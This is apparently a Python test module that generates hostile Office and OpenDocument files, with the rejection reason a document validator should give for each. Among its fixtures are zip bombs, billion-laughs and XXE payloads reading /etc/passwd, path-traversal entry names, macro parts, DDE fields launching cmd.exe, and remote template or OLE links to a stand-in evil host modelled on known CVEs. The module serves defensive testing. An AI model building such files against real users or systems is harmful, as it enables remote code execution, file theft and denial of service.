"""Office documents: bombs, lying directories, macros, and what fetches."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping

from tests.hostile.case import Case

OFFICE = "application/vnd.openxmlformats-officedocument."
DOCX, XLSX = OFFICE + "wordprocessingml.document", OFFICE + "spreadsheetml.sheet"
ODT, ODS = "application/vnd.oasis.opendocument.text", "application/vnd.oasis.opendocument.spreadsheet"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://127.0.0.1:8999/evil"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY b0 "ha">'
    + "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
QUADRATIC = '<!DOCTYPE a [<!ENTITY x "' + "A" * 50_000 + '">]>'

Parts = Mapping[str, bytes | str]


def packed(parts: Parts, *, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a ZIP archive."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", how) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return written.getvalue()


def types(main: str, part: str, more: str = "") -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}.main+xml"/>{more}</Types>'
    )


def relations(*of: tuple[str, str, bool]) -> str:
    mode = ("Internal", "External")
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode[out]}"/>'
        for n, (kind, target, out) in enumerate(of)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'


def document(body: str = "", before: str = "") -> str:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{space}"><w:body><w:p>{body}</w:p></w:body></w:document>'


def docx(
    more: Parts | None = None, *, body: str = "", before: str = "", types_more: str = ""
) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": types(DOCX, "word/document.xml", types_more),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", False)),
        "word/document.xml": document(body, before),
        **(more or {}),
    }


def xlsx(more: Parts | None = None, *, types_more: str = "") -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": types(XLSX, "xl/workbook.xml", types_more),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        **(more or {}),
    }


def opened(kind: str, content: str = "<a/>", more: Parts | None = None, manifest: str = "<m/>") -> bytes:
    return packed(
        {"mimetype": kind, "content.xml": content, "META-INF/manifest.xml": manifest, **(more or {})}
    )


def links(*of: tuple[str, str, bool]) -> dict[str, bytes | str]:
    return docx({"word/_rels/document.xml.rels": relations(*of)})


def named(name: str) -> bytes:
    return packed(docx({name: b"x"}))


def patched(content: bytes, find: bytes, put: bytes, *, last: bool = False) -> bytes:
    """Return the archive with bytes of the same length in their place."""
    place = content.rindex(find) if last else content.index(find)
    assert len(find) == len(put)
    return content[:place] + put + content[place + len(find) :]


def claiming(content: bytes, size: int) -> bytes:
    """Return the archive whose directory says another unpacked size of its last entry."""
    place = content.rindex(b"PK\x01\x02") + 24
    return content[:place] + struct.pack("<I", size) + content[place + 4 :]


def overlapping() -> bytes:
    """Return an archive in which 300 entries of the directory are one and the same run of data."""
    plain = packed(docx({"word/media/a.dat": b"\0" * 300_000}))
    end = plain.rindex(b"PK\x05\x06")
    last = plain.rindex(b"PK\x01\x02")
    entry = plain[last:end]
    copies = b"".join(entry.replace(b"a.dat", b"%05d" % n) for n in range(300))
    start = struct.unpack_from("<I", plain, end + 16)[0]
    count = struct.unpack_from("<H", plain, end + 10)[0] + 300
    size = end - start + len(copies)
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size, start, 0)
    return plain[:end] + copies + tail


def flagged(content: bytes) -> bytes:
    """Return the archive with its first entry marked as encrypted."""
    place = content.index(b"PK\x01\x02") + 8
    return content[:place] + b"\1\0" + content[place + 2 :]


def linked() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as package:
        for name, content in docx().items():
            package.writestr(name, content)
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return written.getvalue()


def twice() -> bytes:
    return patched(
        packed(docx({"word/documenu.xml": document()})), b"word/documenu.xml", b"word/document.xml", last=True
    )


def field(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def cases() -> Iterator[Case]:
    plain_docx, plain_xlsx = packed(docx()), packed(xlsx())
    yield Case("docx", "a.docx", plain_docx, DOCX)
    yield Case("xlsx", "a.xlsx", plain_xlsx, XLSX)
    yield Case("odt", "a.odt", opened(ODT), ODT)
    yield Case("ods", "a.ods", opened(ODS), ODS)

    # other archives
    yield Case("zip as docx", "a.docx", packed({"a.txt": b"a"}), "not_office")
    yield Case(
        "jar as docx",
        "a.docx",
        packed({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe\xba\xbe"}),
        "not_office",
    )
    yield Case("docx as xlsx", "a.xlsx", plain_docx, "not_office")
    yield Case("xlsx as docx", "a.docx", plain_xlsx, "not_office")
    yield Case("odt as ods", "a.ods", opened(ODT), "not_office")
    yield Case("docx as odt", "a.odt", plain_docx, "not_office")
    yield Case("empty zip", "a.docx", packed({}), "content")
    yield Case(
        "docx without its main part",
        "a.docx",
        packed({"[Content_Types].xml": types(DOCX, "word/document.xml")}),
        "not_office",
    )
    yield Case("only the types", "a.docx", packed({"[Content_Types].xml": "<Types/>"}), "not_office")
    yield Case(
        "old or encrypted office", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "content"
    )
    yield Case(
        "odt without manifest", "a.odt", packed({"mimetype": ODT, "content.xml": "<a/>"}), "not_office"
    )
    for ending in (
        "zip",
        "jar",
        "docm",
        "xlsm",
        "doc",
        "xls",
        "rtf",
        "7z",
        "gz",
        "svg",
        "html",
        "js",
        "exe",
        "lnk",
        "hta",
        "xml",
    ):
        yield Case(f"an ending that is not accepted: {ending}", f"a.{ending}", plain_docx, "kind")

    # bombs
    zeros = b"\0" * 30_000_000
    yield Case("a part that unpacks to 30 MB", "a.docx", packed(docx({"word/media/a.dat": zeros})), "ratio")
    many = {f"word/media/{n}.dat": b"\0" * 990_000 for n in range(203)}
    yield Case("203 parts of 1 MB", "a.docx", packed(docx(many)), "unpacked")
    yield Case(
        "3,000 parts",
        "a.docx",
        packed(docx({f"word/{n}.dat": b"" for n in range(3_000)}), how=zipfile.ZIP_STORED),
        "entries",
    )
    inner = packed({"0.zip": packed({"a": b"\0" * 5_000_000})})
    yield Case("nested archives", "a.docx", packed(docx({f"word/{n}.zip": inner for n in range(16)})), DOCX)
    yield Case("parts that lie over each other", "a.docx", overlapping(), "overlapping")
    lying = packed(docx({"word/z.dat": b"\0" * 900_000}))
    yield Case("a part larger than it says", "a.docx", claiming(lying, 10), "damaged")
    yield Case("a part of 4 GB by its own words", "a.docx", claiming(lying, 2**32 - 2), "unpacked")
    yield Case("laughs in a document", "a.docx", packed(docx(before=LAUGHS, body="&b11;")), "entities")
    yield Case(
        "laughs in the types",
        "a.docx",
        packed({**docx(), "[Content_Types].xml": LAUGHS + "<a>&b11;</a>"}),
        "entities",
    )
    yield Case(
        "laughs in relations",
        "a.xlsx",
        packed(xlsx({"xl/_rels/workbook.xml.rels": LAUGHS + "<a>&b11;</a>"})),
        "entities",
    )
    yield Case(
        "laughs in a sheet",
        "a.xlsx",
        packed(xlsx({"xl/worksheets/sheet1.xml": LAUGHS + "<a>&b11;</a>"})),
        "entities",
    )
    yield Case("laughs in odt", "a.odt", opened(ODT, LAUGHS + "<a>&b11;</a>"), "entities")
    yield Case("quadratic entities", "a.docx", packed(docx(before=QUADRATIC, body="&x;" * 5_000)), "entities")
    yield Case("an entity that is a file", "a.docx", packed(docx(before=EXTERNAL, body="&x;")), "entities")
    yield Case(
        "an entity that is a file, in UTF-16",
        "a.xlsx",
        packed(xlsx({"xl/a.xml": (EXTERNAL + "<a>&x;</a>").encode("utf-16")})),
        "entities",
    )
    yield Case(
        "an external document type",
        "a.xlsx",
        packed(xlsx({"xl/a.xml": f'<!DOCTYPE a SYSTEM "{EVIL}"><a/>'})),
        "entities",
    )
    deep = "<a>" * 60_000 + "</a>" * 60_000
    yield Case("60,000 elements in each other", "a.xlsx", packed(xlsx({"xl/a.xml": deep})), XLSX)
    yield Case(
        "an attribute of 5 MB", "a.xlsx", packed(xlsx({"xl/a.xml": f'<a b="{"c" * 900_000}"/>'})), XLSX
    )

    # directories that lie
    for label, name in {
        "up": "../../etc/cron.d/x", "up within": "word/../../x", "absolute": "/etc/passwd", "drive": "C:/Windows/x.dll",
        "backslashes": "..\\..\\x.txt", "share": "\\\\host\\share\\x", "new line": "word/a\nb.dat", "escape": "word/\x1b[2J.dat",
    }.items():  # fmt: skip
        yield Case(f"a part whose name leads {label}", "a.docx", named(name), "entry_name")
    yield Case(
        "a name cut by NUL",
        "a.docx",
        patched(named("word/abc.xml"), b"abc.xml", b"a\0c.xml", last=True),
        "entry_name",
    )
    yield Case(
        "two names for one part",
        "a.docx",
        patched(named("word/abc.dat"), b"abc.dat", b"xyz.dat", last=True),
        "entry_name",
    )
    yield Case("one name for two parts", "a.docx", twice(), "entry_twice")
    yield Case("a link", "a.docx", linked(), "entry_name")
    yield Case("html before the archive", "a.docx", b"<html>" + plain_docx, "content")
    yield Case(
        "a program before the archive", "a.docx", b"PK\x03\x04" + b"\x90" * 500 + plain_docx, "overlapping"
    )
    yield Case("html behind the archive", "a.docx", plain_docx + b"<script>alert(1)</script>", "trailing")
    comment = plain_docx[:-2] + b"\x19\0<script>alert(1)</script>"
    yield Case("html in the archive's comment", "a.docx", comment, "trailing")
    yield Case("an encrypted part", "a.docx", flagged(plain_docx), "encrypted")
    yield Case("only the beginning of an archive", "a.docx", b"PK\x03\x04", "cut_short")
    yield Case("an archive cut in half", "a.docx", plain_docx[: len(plain_docx) // 2], "cut_short")
    yield Case(
        "an archive without directory", "a.docx", plain_docx[: plain_docx.index(b"PK\x01\x02")], "cut_short"
    )
    wrong = bytearray(
        packed(
            docx(
                {"word/z.dat": b"plain text" * 30},
            ),
            how=zipfile.ZIP_STORED,
        )
    )
    wrong[wrong.index(b"plain text")] ^= 1
    yield Case("a part with a wrong checksum", "a.docx", bytes(wrong), "damaged")
    yield Case(
        "XML that is none", "a.docx", packed({**docx(), "word/document.xml": b"<a><b></a>"}), "damaged"
    )

    # macros
    yield Case(
        "vbaProject.bin", "a.docx", packed(docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})), "macros"
    )
    yield Case(
        "vbaProject under another name",
        "a.docx",
        packed(
            docx(
                {"word/a.dat": b"x"},
                types_more='<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
            )
        ),
        "macros",
    )
    enabled = types("application/vnd.ms-word.document.macroEnabled", "word/document.xml")
    yield Case("docm renamed", "a.docx", packed({**docx(), "[Content_Types].xml": enabled}), "macros")
    yield Case(
        "xlsm renamed",
        "a.xlsx",
        packed(
            {
                **xlsx(),
                "[Content_Types].xml": types(
                    "application/vnd.ms-excel.sheet.macroEnabled", "xl/workbook.xml"
                ),
            }
        ),
        "macros",
    )
    yield Case(
        "a macro sheet of Excel 4", "a.xlsx", packed(xlsx({"xl/macrosheets/sheet1.xml": "<a/>"})), "macros"
    )
    yield Case("ActiveX", "a.docx", packed(docx({"word/activeX/activeX1.xml": "<a/>"})), "macros")
    yield Case("a ribbon that acts", "a.docx", packed(docx({"customUI/customUI.xml": "<a/>"})), "macros")
    yield Case("Basic in odt", "a.odt", opened(ODT, more={"Basic/Standard/Module1.xml": "<a/>"}), "macros")
    yield Case("Python in ods", "a.ods", opened(ODS, more={"Scripts/python/a.py": "import os"}), "macros")
    events = '<o xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><s:event-listener/></o>'
    yield Case("an event in odt", "a.odt", opened(ODT, events), "macros")

    # what is embedded, and what fetches
    yield Case(
        "an OLE object",
        "a.docx",
        packed(docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        "embedded",
    )
    yield Case("a program", "a.docx", packed(docx({"word/media/setup.exe": b"MZ"})), "embedded")
    yield Case("a web page", "a.docx", packed(docx({"word/a.html": "<script>alert(1)</script>"})), "embedded")
    yield Case(
        "a drawing with a script",
        "a.docx",
        packed(docx({"word/media/a.svg": "<svg onload='alert(1)'/>"})),
        "embedded",
    )
    yield Case(
        "a web page under another name",
        "a.docx",
        packed(
            docx({"word/a.dat": "x"}, types_more='<Override PartName="/word/a.dat" ContentType="text/html"/>')
        ),
        "embedded",
    )
    yield Case(
        "a template from the web",
        "a.docx",
        packed(docx({"word/_rels/settings.xml.rels": relations(("attachedTemplate", EVIL + ".dotm", True))})),
        "fetches",
    )
    yield Case(
        "a template from a share",
        "a.docx",
        packed(links(("attachedTemplate", "\\\\host\\share\\a.dotm", True))),
        "fetches",
    )
    yield Case(
        "a template from a share as an address",
        "a.docx",
        packed(links(("attachedTemplate", "file://host/share/a.dotm", True))),
        "fetches",
    )
    yield Case(
        "a template of the writer's disk",
        "a.docx",
        packed(links(("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", True))),
        DOCX,
    )
    yield Case("a picture from the web", "a.docx", packed(links(("image", EVIL + ".png", True))), "fetches")
    yield Case(
        "a picture from the web that is called internal",
        "a.docx",
        packed(links(("image", EVIL + ".png", False))),
        "fetches",
    )
    yield Case(
        "a picture from a disk", "a.docx", packed(links(("image", "file:///etc/passwd", True))), "fetches"
    )
    yield Case(
        "an object from the web (CVE-2017-0199)",
        "a.docx",
        packed(links(("oleObject", EVIL + ".hta", True))),
        "fetches",
    )
    yield Case(
        "mhtml through ms-msdt (CVE-2022-30190)",
        "a.docx",
        packed(links(("oleObject", "mhtml:" + EVIL + "!x-usc:" + EVIL, True))),
        "fetches",
    )
    yield Case("a chunk of another format", "a.docx", packed(links(("aFChunk", "a.dat", False))), "fetches")
    yield Case(
        "a link that is clicked", "a.docx", packed(links(("hyperlink", "https://example.org/", True))), DOCX
    )
    yield Case(
        "another workbook",
        "a.xlsx",
        packed(
            xlsx(
                {
                    "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                        ("externalLinkPath", "file:///C:/a.xlsx", True)
                    )
                }
            )
        ),
        "fetches",
    )
    dde = '<e xmlns="urn:s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></e>'
    yield Case("DDE in xlsx", "a.xlsx", packed(xlsx({"xl/externalLinks/externalLink1.xml": dde})), "fields")
    yield Case("a query in xlsx", "a.xlsx", packed(xlsx({"xl/connections.xml": "<a/>"})), "fetches")
    yield Case(
        "a field that starts a program",
        "a.docx",
        packed(docx(body=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))),
        "fields",
    )
    yield Case(
        "such a field in pieces", "a.docx", packed(docx(body=field("DDE") + field("AUTO cmd.exe"))), "fields"
    )
    yield Case(
        "such a field in short", "a.docx", packed(docx(body='<w:fldSimple w:instr="DDE cmd.exe"/>')), "fields"
    )
    yield Case(
        "a field that fetches a picture",
        "a.docx",
        packed(docx(body=field(f'INCLUDEPICTURE "{EVIL}"'))),
        "fields",
    )
    yield Case(
        "a picture from the web in odt",
        "a.odt",
        opened(
            ODT, f'<o xmlns:x="http://www.w3.org/1999/xlink" xmlns:d="urn:d"><d:image x:href="{EVIL}"/></o>'
        ),
        "fetches",
    )
    yield Case("DDE in ods", "a.ods", opened(ODS, '<o xmlns:o="urn:o"><o:dde-source/></o>'), "fields")
    yield Case(
        "an encrypted odt",
        "a.odt",
        opened(ODT, manifest='<m xmlns:m="urn:m"><m:encryption-data/></m>'),
        "encrypted",
    )
